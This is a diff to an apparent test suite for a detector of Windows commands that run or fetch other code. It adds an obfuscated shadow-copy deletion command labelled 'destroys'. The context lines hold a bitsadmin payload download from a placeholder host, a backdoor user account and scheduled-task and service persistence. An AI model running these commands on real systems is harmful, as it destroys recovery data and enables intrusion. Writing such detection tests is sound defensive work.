@@ -103,6 +103,7 @@ describe('programs that run or fetch other code', () => {
     ['wmic process call create calc.exe', 'proxy'],
     ['explorer.exe \\\\srv\\share\\a.exe', 'proxy'],
     ['bitsadmin /transfer j http://a.example/b C:\\b.exe', 'download'],
+    ['vssadmin del%Name%ete shadows', 'destroys'],
     ['net user helper Passw0rd! /add', 'account'],
     ['schtasks /create /tn a /tr calc.exe /sc onstart', 'task'],
     ['sc create a binPath= C:\\a.exe', 'task'],
